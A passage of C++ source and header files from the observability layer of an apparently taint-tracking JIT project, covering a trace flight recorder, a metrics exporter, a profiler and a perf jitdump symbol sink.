               << phaseName(static_cast<Phase>(e.aux)) << "\",\"cat\":"
               << "\"phase\",\"ph\":\""
               << (kind == Ev::PhaseBegin ? 'B' : 'E')
               << "\",\"ts\":" << ts << ",\"pid\":1,\"tid\":" << de.tid
               << "}";
            continue;
        }
        os << "{\"name\":\"" << evName(kind) << "\",\"cat\":\"shift\","
           << "\"ph\":\"i\",\"s\":\"t\",\"ts\":" << ts
           << ",\"pid\":1,\"tid\":" << de.tid << ",\"args\":{";
        os << "\"detail\":\"" << jsonEscape(summarize(e, funcName))
           << "\"";
        std::string fn = funcName(e.func);
        if (!fn.empty())
            os << ",\"func\":\"" << jsonEscape(fn) << "\",\"pc\":" << e.pc;
        if (kind == Ev::PolicyKill) {
            // Reconstruct the provenance chain from this event's own
            // ring: the taint-relevant events that led to the kill.
            os << ",\"provenance\":[";
            const auto &ring = perBuffer[static_cast<size_t>(de.tid) - 1];
            std::vector<std::string> chain;
            for (const TraceEvent &p : ring) {
                if (p.ts >= e.ts &&
                    static_cast<Ev>(p.kind) == Ev::PolicyKill)
                    break;
                if (evTaintRelevant(static_cast<Ev>(p.kind)))
                    chain.push_back(summarize(p, funcName));
            }
            if (chain.size() > kProvenanceDepth)
                chain.erase(chain.begin(),
                            chain.end() -
                                static_cast<ptrdiff_t>(kProvenanceDepth));
            for (size_t i = 0; i < chain.size(); ++i)
                os << (i ? "," : "") << "\"" << jsonEscape(chain[i])
                   << "\"";
            os << "]";
        }
        os << "}}";
    }

    os << "\n],\"displayTimeUnit\":\"ms\"}\n";
}

bool
Recorder::writeChromeJsonFile(const std::string &path) const
{
    std::ofstream out(path);
    if (!out) {
        SHIFT_WARN("cannot write trace file '%s'", path.c_str());
        return false;
    }
    writeChromeJson(out);
    return out.good();
}

std::string
Recorder::renderChain(const std::vector<TraceEvent> &chain) const
{
    auto funcName = [this](int32_t func) { return functionName(func); };
    std::ostringstream ss;
    for (size_t i = 0; i < chain.size(); ++i)
        ss << "  #" << i << " +" << double(chain[i].ts) / 1000.0 << "us "
           << summarize(chain[i], funcName) << "\n";
    return ss.str();
}

} // namespace shift::obs
