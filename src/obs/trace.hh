/**
 * @file
 * The flight recorder: structured trace events in per-thread rings.
 *
 * SHIFT's tracking plane is itself a production system (ROADMAP north
 * star), so it needs the same observability any service does: when a
 * fast-path clone deopts or a policy kill fires we must be able to
 * say which pc, which taint source, and which fleet worker was
 * responsible. This module provides that as an always-compiled,
 * off-by-default facility:
 *
 *  - TraceEvent: a fixed-size (40-byte) structured record. No heap,
 *    no strings; names are resolved at drain time.
 *  - TraceBuffer: a single-producer ring that overwrites the oldest
 *    event when full — flight-recorder semantics. Each simulated
 *    machine (and each fleet clone) owns one; cold host-side phases
 *    write through a per-thread buffer. Overwrites are counted and
 *    surface as the `obs.dropped` stat.
 *  - Recorder: the global registry. Null when tracing is off — the
 *    entire hot-path cost of the subsystem is one branch on that
 *    pointer (enforced by the perf-smoke-obs tripwire).
 *
 * Buffers drain to Chrome `trace_event`-format JSON, loadable
 * directly in Perfetto (ui.perfetto.dev) or chrome://tracing. On a
 * policy detection the last-N taint-relevant events — source syscall
 * pc, propagating tag stores, the failing check — are extracted as a
 * provenance chain and attached to the run verdict.
 *
 * Threading contract: a TraceBuffer is written by exactly one thread.
 * Draining (writeChromeJson, taintChain on another thread's buffer)
 * is only valid after the writing threads have been joined; the fleet
 * drains after serve() returns. See docs/OBSERVABILITY.md.
 */

#ifndef SHIFT_OBS_TRACE_HH
#define SHIFT_OBS_TRACE_HH

#include <atomic>
#include <chrono>
#include <cstdint>
#include <functional>
#include <iosfwd>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "support/stats.hh"

namespace shift::obs
{

/** Event taxonomy (docs/OBSERVABILITY.md has the full catalogue). */
enum class Ev : uint16_t
{
    PhaseBegin,   ///< aux = Phase; host-side span open
    PhaseEnd,     ///< aux = Phase; host-side span close
    FastEnter,    ///< fast-tier superblock entered; pc = block arch pc
    FastDeopt,    ///< aux = DeoptCause; pc = deopting group's arch pc
    FastColdBail, ///< block demoted cold; pc = block arch pc
    CowCopy,      ///< a = faulting address whose page was copied
    JobFork,      ///< a = fleet job id (clone instantiated)
    JobRunBegin,  ///< a = fleet job id
    JobRunEnd,    ///< a = fleet job id, b = simulated cycles
    JobMerge,     ///< a = fleet job id (stats folded into aggregate)
    PolicyCheck,  ///< aux = packed policy id; a = checked address
    PolicyAlert,  ///< aux = packed policy id; pc = alert pc
    PolicyKill,   ///< aux = packed policy id; pc = failing check's pc
    TaintSource,  ///< aux = input channel; a = address, b = length
    TaintStore,   ///< tainted tag store; a = tag address
    RingStall,    ///< async-tier ring full; a = capacity, b = spins
    FenceWait,    ///< async-tier fence blocked; a = lag, b = wait ns
    JitCompile,   ///< unit sealed; pc = leader pc, a = bytes, b = ns
    JitEvict,     ///< flush-when-full; a = bytes flushed, b = live after
    kCount,
};

/** Stable lowercase dotted name ("fast.deopt", "policy.kill"...). */
const char *evName(Ev kind);

/** Events that belong in a taint-provenance chain. */
bool evTaintRelevant(Ev kind);

/** Host-side phases bracketed by PhaseBegin/PhaseEnd. */
enum class Phase : uint16_t
{
    Compile,
    Speculate,
    Instrument,
    Optimize,
    Decode,
    Freeze,
    Clone,
    Run,
    kCount,
};

const char *phaseName(Phase phase);

/** Why a fast-tier probe bailed to the instrumented twin. */
enum class DeoptCause : uint16_t
{
    ChkAddrNat,  ///< check probe: address register carried NaT
    ChkSummary,  ///< check probe: taint summary dirty for the line
    StAddrNat,   ///< store probe: address register carried NaT
    StSummary,   ///< store probe: taint summary dirty for the line
    StSrcTaint,  ///< store probe: source register tainted
    ClrRegNat,   ///< purge probe: register to clear carried NaT
    kCount,
};

const char *deoptCauseName(DeoptCause cause);

/**
 * Pack a policy id like "H2" or "L1" into the 16-bit aux field
 * (first char in the high byte). 0 means "no policy".
 */
uint16_t packPolicyId(const std::string &id);

/** Inverse of packPolicyId ("?" for 0). */
std::string unpackPolicyId(uint16_t aux);

/** Map an input-channel name ("file", "network", "stdin") to aux. */
uint16_t packChannel(const std::string &channel);

/** Inverse of packChannel. */
const char *channelName(uint16_t aux);

/** One fixed-size structured record. */
struct TraceEvent
{
    uint64_t ts = 0;   ///< nanoseconds since Recorder::enable()
    uint64_t pc = 0;   ///< architectural pc, when meaningful
    uint64_t a = 0;    ///< kind-specific (see Ev)
    uint64_t b = 0;    ///< kind-specific (see Ev)
    int32_t func = -1; ///< function index into the recorder name table
    uint16_t kind = 0; ///< an Ev
    uint16_t aux = 0;  ///< kind-specific small field (cause/policy/...)
};

static_assert(sizeof(TraceEvent) == 40, "events must stay fixed-size");

/**
 * A single-producer ring of TraceEvents with overwrite-oldest
 * semantics. Writing is wait-free: bump a sequence number, store into
 * the slot. No reader runs concurrently with the writer (see the
 * threading contract above), so no fences are needed beyond the
 * thread join that hands the buffer over.
 */
class TraceBuffer
{
  public:
    /** Capacity is rounded up to a power of two (min 64). */
    explicit TraceBuffer(uint32_t capacity, int cloneId);

    void
    emit(Ev kind, uint16_t aux = 0, int32_t func = -1, uint64_t pc = 0,
         uint64_t a = 0, uint64_t b = 0)
    {
        TraceEvent &e = ring_[head_ & mask_];
        e.ts = nowNanos();
        e.pc = pc;
        e.a = a;
        e.b = b;
        e.func = func;
        e.kind = static_cast<uint16_t>(kind);
        e.aux = aux;
        ++head_;
    }

    /**
     * Out-of-line emit for interpreter hot-loop call sites: same
     * effect as emit(), but the ring-write code (timestamp read plus
     * slot stores) stays out of the caller's instruction stream, so a
     * never-taken `if (observer)` guard costs only the test.
     */
    void emitCold(Ev kind, uint16_t aux = 0, int32_t func = -1,
                  uint64_t pc = 0, uint64_t a = 0, uint64_t b = 0);

    /** Total events emitted (including overwritten ones). */
    uint64_t emitted() const { return head_; }

    /** Events overwritten because the ring was full. */
    uint64_t
    dropped() const
    {
        uint64_t cap = mask_ + 1;
        return head_ > cap ? head_ - cap : 0;
    }

    /** Events currently held (≤ capacity). */
    uint64_t
    size() const
    {
        uint64_t cap = mask_ + 1;
        return head_ < cap ? head_ : cap;
    }

    uint64_t capacity() const { return mask_ + 1; }
    int cloneId() const { return cloneId_; }

    /** Visit retained events oldest-first. */
    void forEach(const std::function<void(const TraceEvent &)> &fn) const;

    /**
     * The last `maxEvents` taint-relevant events (oldest-first):
     * the provenance chain a policy verdict carries.
     */
    std::vector<TraceEvent> taintChain(size_t maxEvents) const;

    /** Nanoseconds since the owning recorder was enabled. */
    uint64_t nowNanos() const;

  private:
    friend class Recorder;

    std::vector<TraceEvent> ring_;
    uint64_t mask_;
    uint64_t head_ = 0;
    int cloneId_;
    std::chrono::steady_clock::time_point t0_;
};

/** Recorder configuration. */
struct RecorderOptions
{
    /** Per-buffer ring capacity in events (rounded up to 2^k). */
    uint32_t ringEvents = 4096;
};

/**
 * The global flight recorder: owns every TraceBuffer and the function
 * name table, and drains them to Chrome trace JSON. At most one
 * recorder is active; Recorder::active() is null when tracing is off,
 * and that null check is the only cost the rest of the system pays.
 *
 * Lifecycle: enable() → attach machines / run → drain
 * (writeChromeJson / statInto) → disable(). Buffers handed out by
 * acquireBuffer() are owned by the recorder and die with it, so
 * disable() must come after every machine holding one is done.
 */
class Recorder
{
  public:
    /** The active recorder, or nullptr when tracing is disabled. */
    static Recorder *
    active()
    {
        return activePtr_.load(std::memory_order_acquire);
    }

    /** Install a fresh recorder (replacing any active one). */
    static Recorder *enable(const RecorderOptions &options = {});

    /** Tear down the active recorder and free its buffers. */
    static void disable();

    /**
     * A new ring owned by this recorder. cloneId tags the buffer's
     * events in the drained trace (-1 = the main session).
     */
    TraceBuffer *acquireBuffer(int cloneId);

    /**
     * This thread's buffer for cold host-side events (phases, fleet
     * job lifecycle), created on first use and tagged with the
     * thread's log clone tag.
     */
    TraceBuffer *threadBuffer();

    /**
     * Register the simulated program's function names so drained
     * events render "httpd_handle@12" instead of "f3@12". The last
     * registration wins (a fleet shares one program).
     */
    void setFunctionNames(std::vector<std::string> names);

    /** Resolve a function index ("f<i>" when unknown). */
    std::string functionName(int32_t func) const;

    /**
     * Fold recorder counters into a StatSet under the `obs.*`
     * namespace: obs.buffers, obs.events, obs.dropped.
     */
    void statInto(StatSet &stats) const;

    /**
     * Drain every buffer as Chrome trace_event JSON (Perfetto /
     * chrome://tracing). PolicyKill events carry the provenance
     * chain reconstructed from their own buffer in args. Only valid
     * once writer threads are joined.
     */
    void writeChromeJson(std::ostream &os) const;

    /** writeChromeJson to a file; warns and returns false on error. */
    bool writeChromeJsonFile(const std::string &path) const;

    /**
     * Render a provenance chain as human-readable lines (one per
     * event) for tool reports.
     */
    std::string renderChain(const std::vector<TraceEvent> &chain) const;

    const RecorderOptions &options() const { return options_; }

  private:
    explicit Recorder(const RecorderOptions &options);

    static std::atomic<Recorder *> activePtr_;

    RecorderOptions options_;
    std::chrono::steady_clock::time_point t0_;

    mutable std::mutex mutex_;
    std::vector<std::unique_ptr<TraceBuffer>> buffers_;
    std::vector<std::string> functionNames_;
};

/**
 * Emit one event through this thread's buffer if tracing is on.
 * The helper cold call sites use (fleet job lifecycle, policy checks
 * outside the interpreter loop).
 */
inline void
note(Ev kind, uint16_t aux = 0, int32_t func = -1, uint64_t pc = 0,
     uint64_t a = 0, uint64_t b = 0)
{
    if (Recorder *r = Recorder::active())
        r->threadBuffer()->emit(kind, aux, func, pc, a, b);
}

/** RAII PhaseBegin/PhaseEnd span (no-op when tracing is off). */
class ScopedPhase
{
  public:
    explicit ScopedPhase(Phase phase) : phase_(phase)
    {
        note(Ev::PhaseBegin, static_cast<uint16_t>(phase_));
    }

    ~ScopedPhase() { note(Ev::PhaseEnd, static_cast<uint16_t>(phase_)); }

    ScopedPhase(const ScopedPhase &) = delete;
    ScopedPhase &operator=(const ScopedPhase &) = delete;

  private:
    Phase phase_;
};

} // namespace shift::obs

#endif // SHIFT_OBS_TRACE_HH
