/**
 * @file
 * The metrics plane: render a StatSet for the outside world.
 *
 * Two formats, both generated from the same aggregate the fleet
 * already maintains:
 *
 *  - Prometheus text exposition (text/plain; version 0.0.4):
 *    counters become `shift_<name>_total`, gauges `shift_<name>`,
 *    histograms the conventional `_bucket{le=...}/_sum/_count`
 *    triple with power-of-two bounds. Attribution metrics of any
 *    kind whose name embeds a site ("fastpath.deopts.main@12",
 *    "prof.site.interp-slow.main@12.nanos") become a labelled
 *    family (`{function="main",pc="12"}`) instead of an unbounded
 *    metric-name space.
 *  - JSON: {"counters":{...},"gauges":{...},"histograms":{...}},
 *    the machine-readable form shiftd --json embeds.
 *
 * PeriodicExporter drives either renderer on a timer thread so a
 * long fleet run is observable *while* it executes: every interval it
 * snapshots a ConcurrentStatSet and rewrites a file (Prometheus
 * textfile-collector style) or prints to stderr.
 */

#ifndef SHIFT_OBS_EXPORTER_HH
#define SHIFT_OBS_EXPORTER_HH

#include <condition_variable>
#include <functional>
#include <mutex>
#include <string>
#include <thread>

#include "support/stats.hh"

namespace shift::obs
{

/** Render the set as Prometheus text exposition format. */
std::string renderPrometheus(const StatSet &stats);

/**
 * Render the set as a JSON object (counters/gauges/histograms).
 * `indent` spaces of leading indentation are applied to every line
 * so the object embeds cleanly in a larger document.
 */
std::string renderJsonStats(const StatSet &stats, int indent = 0);

/** Exporter output format. */
enum class MetricsFormat
{
    Prometheus,
    Json,
};

/**
 * A timer thread that periodically renders a stats snapshot to a
 * sink. The sink is a path rewritten atomically-enough (truncate +
 * write) each tick, or "-" for stderr. stop() renders one final
 * snapshot so short runs still produce output.
 */
class PeriodicExporter
{
  public:
    using SnapshotFn = std::function<StatSet()>;

    PeriodicExporter() = default;
    ~PeriodicExporter() { stop(); }

    PeriodicExporter(const PeriodicExporter &) = delete;
    PeriodicExporter &operator=(const PeriodicExporter &) = delete;

    /** Begin exporting every `intervalSeconds` (> 0). */
    void start(double intervalSeconds, const std::string &sinkPath,
               MetricsFormat format, SnapshotFn snapshot);

    /** Stop the timer, render one final snapshot, join. */
    void stop();

    bool running() const { return thread_.joinable(); }

    /** How many renders have completed (tests poll this). */
    uint64_t ticks() const;

  private:
    void renderOnce();

    SnapshotFn snapshot_;
    std::string sinkPath_;
    MetricsFormat format_ = MetricsFormat::Prometheus;
    double intervalSeconds_ = 0;

    mutable std::mutex mutex_;
    std::condition_variable cv_;
    bool stopping_ = false;
    uint64_t ticks_ = 0;
    std::thread thread_;
};

} // namespace shift::obs

#endif // SHIFT_OBS_EXPORTER_HH
