#include "profiler.hh"

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>

#include "support/logging.hh"

namespace shift::obs
{

const char *
tierName(Tier tier)
{
    switch (tier) {
      case Tier::InterpSlow: return "interp-slow";
      case Tier::InterpFast: return "interp-fast";
      case Tier::JitSlow: return "jit-slow";
      case Tier::JitFast: return "jit-fast";
      case Tier::AsyncPublish: return "async-publish";
      case Tier::AsyncConsumer: return "async-consumer";
      case Tier::Compile: return "compile";
      case Tier::Builtin: return "builtin";
      case Tier::Host: return "host";
      case Tier::kCount: break;
    }
    return "?";
}

Profiler::Profiler() : table_(kTableSize) {}

void
Profiler::begin()
{
    if (running_)
        return;
    running_ = true;
    beginStamp_ = lastStamp_ = nowNanos();
    curTier_ = Tier::Host;
    curKey_ = siteKey(Tier::Host, -1, 0);
}

void
Profiler::stop()
{
    if (!running_)
        return;
    uint64_t now = nowNanos();
    attribute(now - lastStamp_);
    lastStamp_ = now;
    wallNanos_ += now - beginStamp_;
    running_ = false;
}

void
Profiler::attributeTo(uint64_t key, Tier tier, uint64_t dt)
{
    if (dt == 0)
        return;
    totalNanos_ += dt;
    tierNanos_[size_t(tier)] += dt;
    // Open addressing, bounded probe: a miss folds into the tier
    // residual rather than evicting, so totals stay exact and the
    // hot path never rehashes.
    size_t mask = table_.size() - 1;
    size_t idx = size_t((key * 0x9e3779b97f4a7c15ull) >> 32) & mask;
    for (size_t probe = 0; probe < 16; ++probe) {
        Site &s = table_[(idx + probe) & mask];
        if (s.key == key || s.key == 0) {
            s.key = key;
            s.nanos += dt;
            ++s.samples;
            return;
        }
    }
    tierOverflow_[size_t(tier)] += dt;
}

void
Profiler::statInto(StatSet &stats,
                   const std::function<std::string(int32_t)> &funcName) const
{
    if (totalNanos_ == 0 && samples_ == 0)
        return;
    stats.add("prof.total.nanos", totalNanos_);
    stats.add("prof.wall.nanos", wallNanos_);
    stats.add("prof.samples", samples_);
    for (size_t t = 0; t < size_t(Tier::kCount); ++t) {
        if (tierNanos_[t])
            stats.add(std::string("prof.tier.") + tierName(Tier(t)) +
                          ".nanos",
                      tierNanos_[t]);
    }

    // Top sites by attributed time; everything beyond the report cap
    // (and every overflow interval) folds into the per-tier
    // prof.other residual so site sums reconcile with tier totals.
    std::vector<const Site *> live;
    live.reserve(256);
    for (const Site &s : table_)
        if (s.key)
            live.push_back(&s);
    size_t keep = std::min(kMaxReportedSites, live.size());
    std::partial_sort(live.begin(), live.begin() + keep, live.end(),
                      [](const Site *a, const Site *b) {
                          return a->nanos > b->nanos;
                      });

    uint64_t reported[size_t(Tier::kCount)] = {};
    for (size_t i = 0; i < keep; ++i) {
        const Site &s = *live[i];
        auto tier = Tier(s.key >> 56);
        auto func = int32_t((s.key >> 32) & 0xffffffu) - 1;
        auto pc = uint32_t(s.key & 0xffffffffu);
        reported[size_t(tier)] += s.nanos;
        std::ostringstream name;
        name << "prof.site." << tierName(tier) << "." << funcName(func)
             << "@" << pc << ".nanos";
        stats.add(name.str(), s.nanos);
    }
    for (size_t t = 0; t < size_t(Tier::kCount); ++t) {
        uint64_t rest = tierNanos_[t] - reported[t];
        if (rest)
            stats.add(std::string("prof.other.") + tierName(Tier(t)) +
                          ".nanos",
                      rest);
    }
}

// ----- renderers --------------------------------------------------------

namespace
{

struct ProfileView
{
    uint64_t total = 0;
    uint64_t wall = 0;
    uint64_t samples = 0;
    /** tier tag -> exact engine-thread nanos. */
    std::vector<std::pair<std::string, uint64_t>> tiers;
    /** tier tag -> unattributed (non-site) residual. */
    std::vector<std::pair<std::string, uint64_t>> other;
    /** (tier tag, "fn@pc", nanos), descending. */
    struct SiteRow
    {
        std::string tier;
        std::string site;
        uint64_t nanos = 0;
    };
    std::vector<SiteRow> sites;
    /** off-engine-thread work ("async-consumer", "compile"). */
    std::vector<std::pair<std::string, uint64_t>> aux;
};

/** name == prefix + <middle> + suffix; extracts <middle>. */
bool
peel(const std::string &name, const char *prefix, const char *suffix,
     std::string &middle)
{
    size_t plen = std::strlen(prefix);
    size_t slen = std::strlen(suffix);
    if (name.size() <= plen + slen || name.compare(0, plen, prefix) != 0 ||
        name.compare(name.size() - slen, slen, suffix) != 0)
        return false;
    middle = name.substr(plen, name.size() - plen - slen);
    return true;
}

ProfileView
buildView(const StatSet &stats)
{
    ProfileView v;
    v.total = stats.get("prof.total.nanos");
    v.wall = stats.get("prof.wall.nanos");
    v.samples = stats.get("prof.samples");
    stats.forEach([&](const std::string &name, uint64_t value) {
        std::string mid;
        if (peel(name, "prof.tier.", ".nanos", mid)) {
            v.tiers.emplace_back(mid, value);
        } else if (peel(name, "prof.other.", ".nanos", mid)) {
            v.other.emplace_back(mid, value);
        } else if (peel(name, "prof.aux.", ".nanos", mid)) {
            v.aux.emplace_back(mid, value);
        } else if (peel(name, "prof.site.", ".nanos", mid)) {
            // <tier>.<fn>@<pc> — the tier tag never contains '.'.
            size_t dot = mid.find('.');
            if (dot == std::string::npos)
                return;
            v.sites.push_back(
                {mid.substr(0, dot), mid.substr(dot + 1), value});
        }
    });
    std::sort(v.sites.begin(), v.sites.end(),
              [](const ProfileView::SiteRow &a,
                 const ProfileView::SiteRow &b) {
                  return a.nanos > b.nanos;
              });
    std::sort(v.tiers.begin(), v.tiers.end(),
              [](const auto &a, const auto &b) {
                  return a.second > b.second;
              });
    return v;
}

} // namespace

std::string
renderProfileCollapsed(const StatSet &stats)
{
    ProfileView v = buildView(stats);
    std::ostringstream ss;
    for (const auto &s : v.sites)
        ss << "shift;" << s.tier << ";" << s.site << " " << s.nanos
           << "\n";
    for (const auto &o : v.other)
        ss << "shift;" << o.first << " " << o.second << "\n";
    for (const auto &a : v.aux)
        ss << "shift-aux;" << a.first << " " << a.second << "\n";
    return ss.str();
}

std::string
renderProfileJson(const StatSet &stats, int indent)
{
    ProfileView v = buildView(stats);
    std::string pad(size_t(indent), ' ');
    std::ostringstream ss;
    ss << pad << "{\n";
    ss << pad << "  \"totalNanos\": " << v.total << ",\n";
    ss << pad << "  \"wallNanos\": " << v.wall << ",\n";
    ss << pad << "  \"samples\": " << v.samples << ",\n";
    ss << pad << "  \"tiers\": [";
    for (size_t i = 0; i < v.tiers.size(); ++i) {
        double share =
            v.total ? double(v.tiers[i].second) / double(v.total) : 0;
        char buf[32];
        std::snprintf(buf, sizeof(buf), "%.4f", share);
        ss << (i ? "," : "") << "\n"
           << pad << "    {\"tier\": \"" << v.tiers[i].first
           << "\", \"nanos\": " << v.tiers[i].second
           << ", \"share\": " << buf << "}";
    }
    ss << (v.tiers.empty() ? "" : "\n" + pad + "  ") << "],\n";
    ss << pad << "  \"aux\": [";
    for (size_t i = 0; i < v.aux.size(); ++i) {
        ss << (i ? "," : "") << "\n"
           << pad << "    {\"tier\": \"" << v.aux[i].first
           << "\", \"nanos\": " << v.aux[i].second << "}";
    }
    ss << (v.aux.empty() ? "" : "\n" + pad + "  ") << "],\n";
    ss << pad << "  \"sites\": [";
    for (size_t i = 0; i < v.sites.size(); ++i) {
        ss << (i ? "," : "") << "\n"
           << pad << "    {\"tier\": \"" << v.sites[i].tier
           << "\", \"site\": \"" << v.sites[i].site
           << "\", \"nanos\": " << v.sites[i].nanos << "}";
    }
    ss << (v.sites.empty() ? "" : "\n" + pad + "  ") << "]\n";
    ss << pad << "}";
    return ss.str();
}

std::string
renderProfileSummary(const StatSet &stats)
{
    ProfileView v = buildView(stats);
    std::ostringstream ss;
    ss << "=== profile: engine-thread attribution ("
       << v.total / 1000000 << " ms total, " << v.samples
       << " samples) ===\n";
    for (const auto &t : v.tiers) {
        double share =
            v.total ? 100.0 * double(t.second) / double(v.total) : 0;
        char line[128];
        std::snprintf(line, sizeof(line), "%-16s %10.1f ms %6.1f%%\n",
                      t.first.c_str(), double(t.second) / 1e6, share);
        ss << line;
    }
    for (const auto &a : v.aux) {
        char line[128];
        std::snprintf(line, sizeof(line),
                      "%-16s %10.1f ms   (aux thread, overlaps)\n",
                      a.first.c_str(), double(a.second) / 1e6);
        ss << line;
    }
    size_t top = std::min<size_t>(10, v.sites.size());
    if (top) {
        ss << "top sites:\n";
        for (size_t i = 0; i < top; ++i) {
            char line[160];
            std::snprintf(line, sizeof(line), "  %-14s %-32s %8.2f ms\n",
                          v.sites[i].tier.c_str(),
                          v.sites[i].site.c_str(),
                          double(v.sites[i].nanos) / 1e6);
            ss << line;
        }
    }
    return ss.str();
}

bool
writeProfileFile(const StatSet &stats, const std::string &path)
{
    auto endsWith = [&](const char *suffix) {
        size_t n = std::strlen(suffix);
        return path.size() >= n &&
               path.compare(path.size() - n, n, suffix) == 0;
    };
    std::ofstream out(path, std::ios::trunc);
    if (!out) {
        SHIFT_WARN("cannot write profile '%s'", path.c_str());
        return false;
    }
    if (endsWith(".collapsed") || endsWith(".folded"))
        out << renderProfileCollapsed(stats);
    else
        out << renderProfileJson(stats) << "\n";
    return true;
}

} // namespace shift::obs
