/**
 * @file
 * Host-profiler symbolization for JIT code: perf map / jitdump sink.
 *
 * Compiled superblocks are anonymous executable pages to the host's
 * `perf` — every sample inside them collapses into one "[unknown]"
 * blob. This sink publishes each sealed unit's symbols so host
 * profiles attribute by guest function and superblock pc:
 *
 *  - Default format: the classic `/tmp/perf-<pid>.map` text file
 *    ("<hex addr> <hex size> <name>" per line), which `perf report`
 *    picks up automatically for anonymous mappings. Works with a
 *    plain `perf record` — no post-processing.
 *  - When the sink path ends in `.dump`: the binary jitdump format
 *    (one JIT_CODE_LOAD record per symbol, code bytes included),
 *    for `perf inject --jit` pipelines that want per-symbol disasm.
 *    The file's first page is mmap'd PROT_READ|PROT_EXEC so perf's
 *    mmap-event stream records where the dump lives — the handshake
 *    `perf inject` keys on.
 *
 * Symbols are named `<function>@<pc>` for instrumented-stream blocks
 * and `<function>@<pc>.fast` for fast-stream twins (the tier-tag
 * taxonomy of docs/OBSERVABILITY.md).
 *
 * Lifecycle mirrors the flight recorder: a process-global sink,
 * enabled by the tools' --jitdump flag before sessions are built,
 * written under a mutex (the background compile thread seals
 * concurrently with the serving thread), torn down at exit or
 * explicitly. When disabled, the publication paths pay one branch on
 * a relaxed atomic.
 */

#ifndef SHIFT_OBS_PERFMAP_HH
#define SHIFT_OBS_PERFMAP_HH

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <string>

namespace shift::obs
{

/** Global JIT symbol sink. All methods are thread-safe. */
class PerfJitSink
{
  public:
    /**
     * Open the sink. Empty path = `/tmp/perf-<pid>.map`; a path
     * ending in `.dump` selects the binary jitdump format. Replaces
     * any active sink. Returns false (with a warning) when the file
     * cannot be created.
     */
    static bool enable(const std::string &path = "");

    /** Close the sink (flushes and unmaps). Idempotent. */
    static void disable();

    /** True when a sink is open. */
    static bool
    active()
    {
        return active_.load(std::memory_order_acquire);
    }

    /** The resolved sink path ("" when inactive). */
    static std::string path();

    /**
     * Publish one symbol covering [code, code+size). No-op when
     * inactive (the caller usually guards on active() to skip name
     * construction).
     */
    static void add(const std::string &symbol, const void *code,
                    size_t size);

  private:
    static std::atomic<bool> active_;
};

} // namespace shift::obs

#endif // SHIFT_OBS_PERFMAP_HH
