#include "perfmap.hh"

#include <cstdio>
#include <cstring>
#include <ctime>
#include <mutex>

#include "support/logging.hh"

#if defined(__linux__) || defined(__APPLE__)
#include <sys/mman.h>
#include <unistd.h>
#define SHIFT_PERFMAP_POSIX 1
#else
#define SHIFT_PERFMAP_POSIX 0
#endif

namespace shift::obs
{

namespace
{

/** jitdump file header (perf's jitdump specification, version 1). */
struct JitdumpHeader
{
    uint32_t magic;      ///< "JiTD" (0x4A695444), writer-endian
    uint32_t version;    ///< 1
    uint32_t totalSize;  ///< sizeof(JitdumpHeader)
    uint32_t elfMach;    ///< EM_* of the emitted code
    uint32_t pad1;
    uint32_t pid;
    uint64_t timestamp;  ///< creation time, CLOCK_MONOTONIC ns
    uint64_t flags;
};

/** Common prefix of every jitdump record. */
struct JitdumpRecordHeader
{
    uint32_t id;        ///< 0 = JIT_CODE_LOAD
    uint32_t totalSize; ///< header + payload + name + code bytes
    uint64_t timestamp;
};

/** JIT_CODE_LOAD payload (followed by name\0 and the code bytes). */
struct JitdumpCodeLoad
{
    uint32_t pid;
    uint32_t tid;
    uint64_t vma;
    uint64_t codeAddr;
    uint64_t codeSize;
    uint64_t codeIndex;
};

struct SinkState
{
    std::mutex mutex;
    FILE *file = nullptr;
    std::string path;
    bool jitdump = false;
    uint64_t codeIndex = 0;
    void *marker = nullptr; ///< executable mmap of the dump header
    size_t markerSize = 0;
};

SinkState &
state()
{
    static SinkState s;
    return s;
}

uint64_t
monotonicNanos()
{
#if SHIFT_PERFMAP_POSIX
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return uint64_t(ts.tv_sec) * 1000000000ull + uint64_t(ts.tv_nsec);
#else
    return 0;
#endif
}

void
closeLocked(SinkState &s)
{
#if SHIFT_PERFMAP_POSIX
    if (s.marker)
        munmap(s.marker, s.markerSize);
#endif
    s.marker = nullptr;
    s.markerSize = 0;
    if (s.file)
        std::fclose(s.file);
    s.file = nullptr;
    s.path.clear();
    s.jitdump = false;
    s.codeIndex = 0;
}

} // namespace

std::atomic<bool> PerfJitSink::active_{false};

bool
PerfJitSink::enable(const std::string &path)
{
    SinkState &s = state();
    std::lock_guard<std::mutex> lock(s.mutex);
    closeLocked(s);
    active_.store(false, std::memory_order_release);

    std::string resolved = path;
    if (resolved.empty()) {
#if SHIFT_PERFMAP_POSIX
        resolved = "/tmp/perf-" + std::to_string(getpid()) + ".map";
#else
        resolved = "perf.map";
#endif
    }
    bool jitdump = resolved.size() > 5 &&
                   resolved.compare(resolved.size() - 5, 5, ".dump") == 0;

    FILE *f = std::fopen(resolved.c_str(), "wb");
    if (!f) {
        SHIFT_WARN("cannot open jit symbol sink '%s'", resolved.c_str());
        return false;
    }
    if (jitdump) {
        JitdumpHeader hdr = {};
        hdr.magic = 0x4A695444; // "JiTD"
        hdr.version = 1;
        hdr.totalSize = sizeof(JitdumpHeader);
#if defined(__x86_64__)
        hdr.elfMach = 62; // EM_X86_64
#endif
#if SHIFT_PERFMAP_POSIX
        hdr.pid = uint32_t(getpid());
#endif
        hdr.timestamp = monotonicNanos();
        std::fwrite(&hdr, sizeof(hdr), 1, f);
        std::fflush(f);
#if SHIFT_PERFMAP_POSIX
        // perf inject locates the dump through an executable mmap of
        // it in the recorded process — map the header page now.
        long page = sysconf(_SC_PAGESIZE);
        if (page > 0) {
            void *m = mmap(nullptr, size_t(page), PROT_READ | PROT_EXEC,
                           MAP_PRIVATE, fileno(f), 0);
            if (m != MAP_FAILED) {
                s.marker = m;
                s.markerSize = size_t(page);
            }
        }
#endif
    }
    s.file = f;
    s.path = resolved;
    s.jitdump = jitdump;
    active_.store(true, std::memory_order_release);
    return true;
}

void
PerfJitSink::disable()
{
    SinkState &s = state();
    std::lock_guard<std::mutex> lock(s.mutex);
    active_.store(false, std::memory_order_release);
    closeLocked(s);
}

std::string
PerfJitSink::path()
{
    SinkState &s = state();
    std::lock_guard<std::mutex> lock(s.mutex);
    return s.path;
}

void
PerfJitSink::add(const std::string &symbol, const void *code, size_t size)
{
    if (!active() || !code || size == 0)
        return;
    SinkState &s = state();
    std::lock_guard<std::mutex> lock(s.mutex);
    if (!s.file)
        return;
